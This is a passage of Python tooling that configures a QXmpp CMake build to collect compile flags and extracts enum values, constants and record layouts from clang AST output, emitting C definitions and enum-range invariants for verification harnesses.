    qxmpp_export.h produced an AST full of error-recovery nodes)"""
    global _cfg
    if _cfg:
        return _cfg
    with _cfg_lock:
        return _configure_locked()


def _configure_locked():
    global _cfg
    if _cfg:
        return _cfg
    bdir = os.path.join(scratch_root(), 'cfg')
    cmd = ['cmake', '-S', REPO, '-B', bdir, '-G', 'Ninja', '-DBUILD_SHARED=OFF', '-DBUILD_TESTS=OFF',
           '-DBUILD_EXAMPLES=OFF', '-DBUILD_INTERNAL_TESTS=OFF', '-DCMAKE_BUILD_TYPE=Release', '-DCMAKE_EXPORT_COMPILE_COMMANDS=ON']
    for attempt in range(3):
        p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        if p.returncode == 0:
            break
        # seen under heavy load: cmake's compiler-feature probe fails spuriously; retry from a clean directory
        shutil.rmtree(bdir, ignore_errors=True)
        import time
        time.sleep(2 + 3 * attempt)
    if p.returncode != 0:
        raise ConfigureError('cmake configure failed:\n' + p.stdout[-2000:])
    cc = json.load(open(os.path.join(bdir, 'compile_commands.json')))
    flags = {}
    for c in cc:
        args = shlex.split(c['command'])[1:]
        out = []
        skip = False
        for a in args:
            if skip:
                skip = False
                continue
            if a in ('-o', '-c'):
                skip = True
                continue
            if a.startswith('-O'):
                continue
            out.append(a)
        flags[os.path.realpath(c['file'])] = out
    _cfg = {'dir': bdir, 'flags': flags}
    return _cfg


def flags_for(src):
    cfg = configure()
    src = os.path.realpath(src)
    if src in cfg['flags']:
        return cfg['flags'][src]
    # header-only / instantiating TU: use the flags of any library TU
    for k, v in cfg['flags'].items():
        if k.endswith('QXmppUtils.cpp'):
            return v
    raise ConfigureError('no compile flags for ' + src)
