"""Mechanically extracted context of a lowered function: enum constants with their values, namespace-scope
constants, record layouts (field names and types), constant tables."""
import re
from . import astx
from .cxx2c import Lowerer, Unsupported, enum_cname, strip_type, qt


def _const_value(n):
    """integer value of a constant initialiser as clang evaluated it (ConstantExpr) or wrote it (literal)"""
    if n.get('kind') == 'ConstantExpr' and 'value' in n:
        return int(n['value'])
    if n.get('kind') == 'IntegerLiteral':
        return int(n['value'])
    if n.get('kind') in ('ImplicitCastExpr', 'ParenExpr', 'CStyleCastExpr', 'CXXStaticCastExpr', 'CXXFunctionalCastExpr') and n.get('inner'):
        return _const_value(n['inner'][0])
    if n.get('kind') == 'UnaryOperator' and n.get('opcode') == '-':
        v = _const_value(n['inner'][0])
        return None if v is None else -v
    if n.get('kind') == 'BinaryOperator':
        a = _const_value(n['inner'][0])
        b = _const_value(n['inner'][1])
        if a is None or b is None:
            return None
        op = n['opcode']
        return {'+': a + b, '-': a - b, '*': a * b, '<<': a << b, '|': a | b, '&': a & b}.get(op)
    return None


def enum_values(src, etype, extra_flags=()):
    """{name: value} of enum `etype` (possibly qualified A::B) as declared in the TU"""
    last = etype.split('::')[-1]
    decls = astx.find_decls(src, etype if '::' in etype else last, 'EnumDecl', last, extra_flags)
    if not decls and '::' in etype:
        decls = astx.find_decls(src, last, 'EnumDecl', last, extra_flags)
    decls = [d for d in decls if any(c.get('kind') == 'EnumConstantDecl' for c in d.get('inner', []))]
    ids = {d['id'] for d in decls}
    if len(ids) != 1:
        raise astx.ExtractError('enum %s: %d definitions found' % (etype, len(ids)))
    vals = {}
    nxt = 0
    for c in decls[0]['inner']:
        if c.get('kind') != 'EnumConstantDecl':
            continue
        v = None
        for i in c.get('inner', []):
            vi = _const_value(i)      # a trailing doc comment (FullComment child) must not erase the initialiser's value
            if vi is not None:
                v = vi
        if v is None:
            v = nxt
        vals[c['name']] = v
        nxt = v + 1
    return vals


def emit_enums(src, need_enums, extra_flags=()):
    """C definitions for every enum constant a lowered function referred to"""
    out = []
    for et in sorted(need_enums):
        vals = enum_values(src, et, extra_flags)
        items = []
        for name in sorted(need_enums[et]):
            if name not in vals:
                raise astx.ExtractError('enum %s has no constant %s' % (et, name))
        for name, v in vals.items():
            items.append('%s = %d' % (enum_cname(et, name), v))
        out.append('enum { %s };' % ', '.join(items))
    return '\n'.join(out)


def global_const(src, name, profile, extra_flags=()):
    """`static const T name = <constant expr>;` at namespace scope -> C definition"""
    decls = [d for d in astx.find_decls(src, name, 'VarDecl', name, extra_flags) if d.get('inner')]
    ids = {d['id'] for d in decls}
    if len(ids) != 1:
        raise astx.ExtractError('global %s: %d definitions found' % (name, len(ids)))
    d = decls[0]
    lw = Lowerer(d, name, profile)
    ct = lw.ntype(d) if '[' not in qt(d) else None
    init = [c for c in d['inner'] if isinstance(c, dict) and 'kind' in c and not c['kind'].endswith('Comment')][0]
    if '[' in qt(d):
        m = re.match(r'(.*?)\s*\[(\d+)\]', strip_type(qt(d)))
        base = lw.ctype(m.group(1))
        il = lw.skip(init)
        if il.get('kind') != 'InitListExpr':
            raise Unsupported('table %s is not an initialiser list' % name)
        elems = [lw.expr(e) for e in il['inner']]
        if len(elems) != int(m.group(2)):
            raise Unsupported('table %s: %d initialisers for %s entries' % (name, len(elems), m.group(2)))
        return 'static const %s %s[%s] = { %s };' % (base, name, m.group(2), ', '.join(elems)), lw
    e = lw.expr(init)
    if lw.pre:
        raise Unsupported('global %s needs temporaries' % name)
    return 'static const %s %s = %s;' % (ct, name, e), lw


def record_fields(src, filt, cls, extra_flags=()):
    decls = [d for d in astx.find_decls(src, filt, 'CXXRecordDecl', cls, extra_flags) if d.get('completeDefinition')]
    ids = {d['id'] for d in decls}
    if len(ids) != 1:
        raise astx.ExtractError('record %s: %d complete definitions found' % (cls, len(ids)))
    return [(c['name'], c['type']) for c in decls[0]['inner'] if c.get('kind') == 'FieldDecl'], decls[0]


def emit_record(src, filt, cls, cname, profile, extra_flags=(), skip_fields=(), opaque_ok=False):
    """C struct mirroring the data members of a class (so that a removed/retyped member is noticed)"""
    fields, decl = record_fields(src, filt, cls, extra_flags)
    lw = Lowerer({'inner': []}, cname, profile)
    lines = []
    for name, t in fields:
        if name in skip_fields:
            continue
        try:
            ct = lw.ctype(t.get('qualType'))
        except Unsupported:
            try:
                ct = lw.ctype(t.get('desugaredQualType', t.get('qualType')))
            except Unsupported:
                if opaque_ok:
                    lines.append('  /* member %s : %s not modelled */' % (name, t.get('qualType')))
                    continue
                raise
        lines.append('  %s %s;' % (ct, name))
    return 'typedef struct %s {\n%s\n} %s;' % (cname, '\n'.join(lines), cname), [f[0] for f in fields]


def _enum_decl_values(decl):
    vals = {}
    nxt = 0
    for c in decl.get('inner', []):
        if c.get('kind') != 'EnumConstantDecl':
            continue
        v = None
        for i in c.get('inner', []):
            vi = _const_value(i)
            if vi is not None:
                v = vi
        if v is None:
            v = nxt
        vals[c['name']] = v
        nxt = v + 1
    return vals


def enum_field_invariant(src, filt, cls, extra_flags=()):
    """C macro body `(p)`-parametrised: every ENUM-typed data member of record `cls` holds one of its declared enumerators.
    This is a type invariant of well-formed objects (an enum object outside its enumerators is not produced by the program);
    harnesses that quantify over arbitrary member values state it in `requires`, otherwise a behaviour-preserving rewrite of an
    if/else over a two-valued enum into a switch looks like a behaviour change.  Returns (expression with %s for the pointer, [fields])."""
    fields, decl = record_fields(src, filt, cls, extra_flags)
    inner = [c for c in decl.get('inner', []) if isinstance(c, dict)]
    named = {c.get('name'): c for c in inner if c.get('kind') == 'EnumDecl' and c.get('name')}
    conj = []
    names = []
    prev = None
    for c in inner:
        if c.get('kind') == 'FieldDecl':
            q = c.get('type', {}).get('qualType', '')
            vals = None
            if 'unnamed' in q and prev is not None and prev.get('kind') == 'EnumDecl' and not prev.get('name'):
                vals = _enum_decl_values(prev)
            else:
                base = strip_type(q)
                if re.fullmatch(r'[A-Za-z_]\w*(::[A-Za-z_]\w*)*', base or ''):
                    last = base.split('::')[-1]
                    if last in named:
                        vals = _enum_decl_values(named[last])
                    else:
                        try:
                            vals = enum_values(src, base, extra_flags)
                        except Exception:
                            vals = None
            if vals:
                vs = sorted(set(vals.values()))
                if len(vs) > 1 and vs == list(range(vs[0], vs[-1] + 1)):
                    conj.append('((int)(%%s)->%s >= %d && (int)(%%s)->%s <= %d)' % (c['name'], vs[0], c['name'], vs[-1]))
                else:
                    conj.append('(' + ' || '.join('(int)(%%s)->%s == %d' % (c['name'], v) for v in vs) + ')')
                names.append(c['name'])
        if c.get('kind') in ('EnumDecl', 'FieldDecl'):
            prev = c
    return (' && '.join(conj) if conj else '1'), names
